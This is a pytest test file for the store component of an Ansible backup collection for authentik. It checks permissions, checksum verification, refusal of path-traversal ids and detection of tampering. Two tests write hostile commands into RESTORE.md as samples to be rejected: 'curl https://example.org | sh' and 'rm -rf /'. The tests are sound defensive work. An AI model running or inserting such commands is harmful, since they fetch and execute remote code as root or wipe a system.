# Copyright (c) 2026 the authentik_ops.recovery contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The store: what becomes visible, what does not, and what is refused."""

from __future__ import annotations

import datetime
import hashlib
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.authentik_ops.recovery.plugins.module_utils._errors import (
    InputError,
    IntegrityError,
)
from ansible_collections.authentik_ops.recovery.plugins.plugin_utils import _folder
from ansible_collections.authentik_ops.recovery.plugins.plugin_utils._store import Store, open_store
from tests.support.other_users import let_others_in
from tests.support.store import BLOBS, NOW, fill, manifest_of, publish


def test_a_published_set_is_private_read_only_and_verifiable_by_hand(store: Store) -> None:
    backup_set = publish(store)
    modes = {
        os.path.relpath(path, backup_set.path): oct(os.stat(path).st_mode & 0o777)
        for folder, folders, names in os.walk(backup_set.path)
        for path in [folder, *(os.path.join(folder, name) for name in names)]
    }
    assert modes == {
        ".": "0o700",
        "postgresql": "0o700",
        "static": "0o700",
        "postgresql/authentik.dump": "0o400",
        "static/media.tar.zst": "0o400",
        "manifest.json": "0o400",
        "RESTORE.md": "0o400",
        "SHA256SUMS": "0o400",
    }
    done = subprocess.run(
        ["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=backup_set.path, capture_output=True, text=True, check=True
    )
    assert done.stdout.count(": OK") == 4, "both artifacts, the manifest and RESTORE.md"
    assert [one.set_id for one in store.list_sets()[0]] == [backup_set.set_id]
    assert backup_set.verified[0]["level"] == "checksums"
    assert backup_set.size == 305000


def test_an_unfinished_set_is_reported_but_never_a_set(store: Store) -> None:
    partial = store.open(NOW, b"\x01\x02", os.getpid())
    fill(partial, BLOBS)
    sets, problems = store.list_sets()
    assert sets == []
    assert [(one.name, one.reason, one.unfinished) for one in problems] == [
        (partial.set_id + ".partial", "being written", True)
    ]
    with pytest.raises(InputError, match="being written"):
        store.get("latest")


def test_ids_go_on_when_the_clock_goes_back(store: Store) -> None:
    first = publish(store)
    second = publish(store, now=NOW - datetime.timedelta(days=30))
    assert second.set_id > first.set_id
    assert store.get("latest").set_id == second.set_id


RESTORE_ID = "20261122T040000Z-1b2c"


def test_latest_passes_over_what_a_restore_replaced(store: Store) -> None:
    first, second = publish(store), publish(store)
    safety = [publish(store, restore_id=RESTORE_ID) for _number in range(2)]
    assert [one.restore_id for one in store.list_sets()[0]] == [RESTORE_ID, RESTORE_ID, "", ""]
    chosen, passed_over = store.latest()
    assert (chosen.set_id, passed_over) == (second.set_id, [])
    assert [one.set_id for one in store.safety_sets_after(chosen)] == [safety[1].set_id, safety[0].set_id]
    assert store.get(safety[0].set_id).restore_id == RESTORE_ID
    newest = publish(store)
    assert store.get("latest").set_id == newest.set_id
    assert store.safety_sets_after(newest) == []
    assert len(store.safety_sets_after(first)) == 2


def test_a_safety_set_is_the_latest_only_where_nothing_else_can_be_used(store: Store) -> None:
    damaged = publish(store)
    safety = publish(store, restore_id=RESTORE_ID)
    (Path(damaged.path) / "manifest.json").unlink()
    chosen, passed_over = store.latest()
    assert chosen.set_id == safety.set_id
    assert [one.name for one in passed_over] == [damaged.set_id]


@pytest.mark.parametrize("set_id", ["../sso", "..", "", "x", "../../etc", "20261122T031500Z-7f3a/../x"])
def test_ids_cannot_climb_out(store: Store, set_id: str) -> None:
    publish(store)
    for use in (store.get, store.partial, store.published):
        with pytest.raises(InputError, match="not the id of a backup set"):
            use(set_id)


def test_an_absent_set_names_those_that_are_there(store: Store) -> None:
    there = publish(store)
    with pytest.raises(InputError, match=there.set_id):
        store.get("20200101T000000Z-0000")
    with pytest.raises(InputError, match="holds nothing of this instance"):
        open_store(store.root, "other").get("latest")


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        ("no manifest", "no manifest"),
        ("broken manifest", "not valid JSON"),
        ("newer", "format 2"),
        ("artifact gone", "is missing"),
        ("artifact truncated", "were recorded"),
        ("renamed", "is that of"),
        ("other instance", "is that of"),
    ],
)
def test_a_damaged_set_is_reported_with_its_reason_and_not_listed(store: Store, damage: str, says: str) -> None:
    good = publish(store)
    bad = publish(store)
    folder = Path(bad.path)
    manifest = folder / "manifest.json"
    artifact = folder / "static" / "media.tar.zst"
    manifest.chmod(0o600)
    artifact.chmod(0o600)
    name = bad.set_id
    if damage == "no manifest":
        manifest.unlink()
    elif damage == "broken manifest":
        manifest.write_bytes(manifest.read_bytes()[:-40])
    elif damage == "newer":
        manifest.write_text(manifest.read_text().replace('"format": 1', '"format": 2'))
    elif damage == "artifact gone":
        artifact.unlink()
    elif damage == "artifact truncated":
        os.truncate(artifact, 4999)
    elif damage == "renamed":
        name = "20991122T031500Z-aaaa"
        folder.rename(folder.parent / name)
    else:
        manifest.write_text(manifest.read_text().replace('"name": "sso"', '"name": "elsewhere"'))
    sets, problems = store.list_sets()
    assert [one.set_id for one in sets] == [good.set_id]
    assert [one.name for one in problems] == [name]
    assert says in problems[0].reason
    with pytest.raises(IntegrityError, match=says):
        store.get(name)
    assert store.get("latest").set_id == good.set_id


def test_one_flipped_byte_is_found_recorded_and_the_set_is_no_longer_listed(store: Store) -> None:
    backup_set = publish(store)
    artifact = Path(backup_set.path) / "postgresql" / "authentik.dump"
    artifact.chmod(0o600)
    good = artifact.read_bytes()
    artifact.write_bytes(good[:1000] + b"!" + good[1001:])
    with pytest.raises(IntegrityError, match="SHA-256"):
        store.verify(backup_set, NOW, record_it=False)
    assert len(store.list_sets()[0]) == 1
    with pytest.raises(IntegrityError, match="SHA-256"):
        store.verify(backup_set, NOW)
    sets, problems = store.list_sets()
    assert sets == []
    assert "last verification failed" in problems[0].reason
    artifact.write_bytes(good)
    record = store.verify(store.get(backup_set.set_id, recheck=True), NOW)
    assert (record["ok"], record["artifacts"], record["bytes"]) == (True, 2, 305000)
    assert len(store.list_sets()[0]) == 1


def test_sums_that_disagree_with_the_manifest_are_found(store: Store) -> None:
    backup_set = publish(store)
    sums = Path(backup_set.path) / "SHA256SUMS"
    sums.chmod(0o600)
    sums.write_text(sums.read_text().replace("media", "mudia"))
    with pytest.raises(IntegrityError, match="SHA256SUMS"):
        store.verify(backup_set, NOW)


def test_a_manifest_that_says_something_else_is_no_set(store: Store) -> None:
    """Still valid, and nothing that the artifacts could contradict: only its checksum tells."""
    backup_set = publish(store)
    manifest = Path(backup_set.path) / "manifest.json"
    manifest.chmod(0o600)
    good = manifest.read_text()
    manifest.write_text(good.replace('"deployment": "host"', '"deployment": "hosT"'))
    (problem,) = store.list_sets()[1]
    for part in ("%s has SHA-256" % manifest, "SHA256SUMS says"):
        assert part in problem.reason
    for act in (lambda: store.get(backup_set.set_id), lambda: store.verify(backup_set, NOW, record_it=False)):
        with pytest.raises(IntegrityError, match=r"manifest.json has SHA-256.*use another"):
            act()
    manifest.write_text(good)
    assert store.get(backup_set.set_id).manifest == backup_set.manifest


@pytest.mark.parametrize("size", [0, 1, 80, 81, 150, -1])
def test_cut_sums_are_found(store: Store, size: int) -> None:
    sums = Path(publish(store).path) / "SHA256SUMS"
    sums.chmod(0o600)
    os.truncate(sums, size % len(sums.read_bytes()))
    assert store.list_sets()[0] == []
    assert "%s does not say" % sums in store.list_sets()[1][0].reason


def test_a_set_whose_sums_have_no_line_for_the_manifest_stays_one(store: Store) -> None:
    """As the first sets were written."""
    backup_set = publish(store)
    sums = Path(backup_set.path) / "SHA256SUMS"
    sums.chmod(0o600)
    sums.write_text("".join(sums.read_text().splitlines(keepends=True)[1:]))
    assert store.verify(store.get(backup_set.set_id), NOW)["ok"]
    sums.unlink()
    with pytest.raises(IntegrityError, match="There is no SHA256SUMS"):
        store.get(backup_set.set_id)


def test_a_writer_that_reads_back_what_it_wrote_is_seen_to_live(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    partial = store.open(NOW, os.urandom(2), os.getpid())
    artifacts = fill(partial, BLOBS)
    owner = Path(partial.path) / ".owner.json"
    os.utime(owner, (1, 1))
    seen: list[float] = []
    drop = partial.drop_working_files

    def look_and_drop() -> None:
        seen.append(owner.stat().st_mtime)
        drop()

    monkeypatch.setattr(partial, "drop_working_files", look_and_drop)
    store.publish(partial, manifest_of(partial, artifacts), NOW)
    assert seen[0] > 1, "another machine would take it for dead in the middle of a large set"


def test_what_changed_between_writing_and_publishing_is_not_published(store: Store) -> None:
    for spoil in ("altered", "extra", "missing"):
        partial = store.open(NOW, os.urandom(2), os.getpid())
        artifacts = fill(partial, BLOBS)
        artifact = Path(partial.path) / "static" / "media.tar.zst"
        artifact.chmod(0o600)
        if spoil == "altered":
            artifact.write_bytes(b"x" * 5000)
        elif spoil == "extra":
            (artifact.parent / "other.tar").write_bytes(b"")
        else:
            artifact.unlink()
        with pytest.raises(IntegrityError):
            store.publish(partial, manifest_of(partial, artifacts), NOW)
        partial.discard()
    assert store.list_sets()[0] == []


def test_an_unchanged_artifact_is_linked_and_survives_its_origin(store: Store) -> None:
    first = publish(store)
    partial = store.open(NOW, os.urandom(2), os.getpid())
    artifact = first.manifest["artifacts"][1]
    partial.link(first.folder, artifact)
    partial.save_record({"component": "media", "artifacts": [{"path": artifact["path"]}]}, [])
    linked = [dict(artifact, linked_from=first.set_id)]
    second = store.publish(partial, manifest_of(partial, linked), NOW)
    paths = [os.path.join(one.path, artifact["path"]) for one in (first, second)]
    assert os.path.samefile(*paths)
    os.unlink(paths[0])
    assert store.verify(second, NOW)["ok"]


def test_where_links_are_not_possible_the_artifact_is_copied_and_compared(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = publish(store)

    def refuse(*args: Any, **how: Any) -> None:
        raise OSError(18, "Invalid cross-device link")

    monkeypatch.setattr(_folder.os, "link", refuse)
    partial = store.open(NOW, os.urandom(2), os.getpid())
    artifact = first.manifest["artifacts"][1]
    partial.link(first.folder, artifact)
    assert (Path(partial.path) / artifact["path"]).read_bytes() == BLOBS[artifact["path"]]
    source = Path(first.path) / artifact["path"]
    source.chmod(0o600)
    source.write_bytes(b"x" * 5000)
    partial.discard()
    other = store.open(NOW, os.urandom(2), os.getpid())
    with pytest.raises(IntegrityError, match="SHA-256"):
        other.link(first.folder, artifact)


@pytest.mark.parametrize("path", ["a-file", "a-file/deeper"])
def test_a_store_that_is_a_file_is_refused(tmp_path: Path, path: str) -> None:
    (tmp_path / "a-file").write_text("")
    with pytest.raises(InputError, match="a-file"):
        open_store(str(tmp_path / path), "sso").open(NOW, b"\0\0", os.getpid())


def test_a_store_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    let_others_in(locked)
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            if os.geteuid() == 0:
                os.setgid(65534)
                os.setuid(65534)
            open_store(str(locked / "store"), "sso").open(NOW, b"\0\0", os.getpid())
        except InputError as exc:
            os.write(writing, str(exc).encode())
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    said = os.read(reading, 4096).decode()
    assert str(locked / "store") in said
    assert "Permission denied" in said
    assert "owner and mode" in said


def test_a_restore_md_that_is_not_the_sets_own_is_refused(store: Store) -> None:
    """Whoever follows it runs what is in it as root; a checksum of its own in SHA256SUMS does not make it true."""
    backup_set = publish(store)
    folder = Path(backup_set.path)
    text, sums = folder / "RESTORE.md", folder / "SHA256SUMS"
    text.chmod(0o600)
    sums.chmod(0o600)
    good, good_sums = text.read_bytes(), sums.read_text()
    text.write_bytes(good.replace(b"set -euo pipefail", b"curl https://example.org | sh"))
    for own in (
        good_sums,
        good_sums.replace(hashlib.sha256(good).hexdigest(), hashlib.sha256(text.read_bytes()).hexdigest()),
    ):
        sums.write_text(own)
        for act in (lambda: store.get(backup_set.set_id), lambda: store.verify(backup_set, NOW, record_it=False)):
            with pytest.raises(IntegrityError) as found:
                act()
            assert "RESTORE.md" in found.value.cause or "SHA256SUMS" in found.value.cause
            assert found.value.hint
        assert store.list_sets()[0] == []
    sums.write_text(good_sums)
    text.unlink()
    with pytest.raises(IntegrityError, match=r"no RESTORE.md in .*use another"):
        store.get(backup_set.set_id)
    text.write_bytes(good)
    assert store.get(backup_set.set_id).manifest == backup_set.manifest


def test_a_set_that_was_saved_without_restore_md_stays_one_and_none_may_be_put_there(store: Store) -> None:
    folder = Path(publish(store).path)
    for path in folder.iterdir():
        path.chmod(0o700 if path.is_dir() else 0o600)
    (folder / "RESTORE.md").unlink()
    manifest = json.loads((folder / "manifest.json").read_text())
    del manifest["instructions"]
    (folder / "manifest.json").write_text(json.dumps(manifest))
    digest = hashlib.sha256((folder / "manifest.json").read_bytes()).hexdigest()
    lines = ["%s  manifest.json\n" % digest]
    lines += ["%s  %s\n" % (one["sha256"], one["path"]) for one in manifest["artifacts"]]
    (folder / "SHA256SUMS").write_text("".join(lines))
    assert store.verify(store.get("latest"), NOW)["ok"]
    (folder / "RESTORE.md").write_text("rm -rf /\n")
    with pytest.raises(IntegrityError, match=r"RESTORE.md is not of the backup set.*Do not follow"):
        store.get(folder.name)
